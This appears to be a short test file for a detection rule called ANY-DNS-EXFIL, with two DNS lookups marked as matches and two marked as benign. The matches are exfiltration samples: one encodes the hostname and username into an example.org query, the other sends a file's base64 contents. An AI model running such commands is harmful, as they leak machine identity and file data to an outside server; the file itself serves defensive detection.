# ruleid: ANY-DNS-EXFIL
nslookup "$(hostname).$(whoami).example.org"
# ruleid: ANY-DNS-EXFIL
dig $(cat notes.txt | base64).example.org
# ok: ANY-DNS-EXFIL
dig www.example.org
# ok: ANY-DNS-EXFIL
dig "$name.example.org"
